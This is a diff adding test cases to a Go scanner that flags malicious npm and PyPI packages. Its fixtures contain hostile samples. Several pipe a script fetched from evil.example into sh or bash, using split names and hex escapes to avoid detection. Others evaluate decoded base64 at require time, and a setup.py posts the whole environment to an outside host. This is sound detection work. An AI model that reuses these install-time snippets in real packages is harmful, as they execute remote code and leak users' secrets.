@@ -163,6 +163,15 @@ func TestNPMMalicious(t *testing.T) {
 			"package.json": pkgJSON(``),
 			"binding.gyp":  "{\n 'targets': [{\n  'target_name': 'x',\n  'sources': ['<!(curl -s http://evil.example/s | sh)']\n }]\n}\n",
 		}, want: []want{{RuleDownloadExec, High, "binding.gyp:4:"}}},
+		{name: "names split with + and hex escapes", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(`"postinstall":"node x.js"`),
+			"x.js": "const g = globalThis;\nconst k = 'ev' + 'al';\ng['ev'+'al'](g['\\x61\\x74\\x6f\\x62']('eA=='));\n" +
+				"require('child_' + \"process\")['exec' + 'Sync']('curl -s https://evil.example/p.sh | s' + 'h');\n",
+		}, want: []want{{RuleDownloadExec, High, "x.js:4:"}}},
+		{name: "eval through a split global name at require time", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(``),
+			"index.js":     "module.exports = {};\nglobal['ev' + 'al'](Buffer.from('Y29uc29sZS5sb2coMSk=', 'base' + '64').toString());\n",
+		}, want: []want{{RuleEvalDecode, High, "index.js:2:"}}},
 		// Require-time payloads: no install script at all.
 		{name: "eval of decoded data in main", eco: "npm", files: map[string]string{
 			"package.json": pkgJSON(``),
@@ -235,6 +244,9 @@ func TestPyPI(t *testing.T) {
 		}, want: []want{{RuleEvalDecode, High, "_build.py:3:"}}},
 		{name: "setup.py curl piped to sh", eco: "PyPI", files: map[string]string{
 			"setup.py": "import subprocess\nsubprocess.call('curl -s https://evil.example/i | sh', shell=True)\n",
+		}, want: []want{{RuleDownloadExec, High, "setup.py:2:"}}},
+		{name: "setup.py __import__ os system wget", eco: "PyPI", files: map[string]string{
+			"setup.py": "from setuptools import setup\n__import__('os').system('wget -qO- http://evil.example/x | ba' + 'sh')\nsetup(name='x')\n",
 		}, want: []want{{RuleDownloadExec, High, "setup.py:2:"}}},
 		{name: "setup.py sends the environment", eco: "PyPI", files: map[string]string{
 			"setup.py": "import os, json, urllib.request\nreq = urllib.request.Request('https://c.example', data=json.dumps(dict(os.environ)).encode())\nurllib.request.urlopen(req)\n",
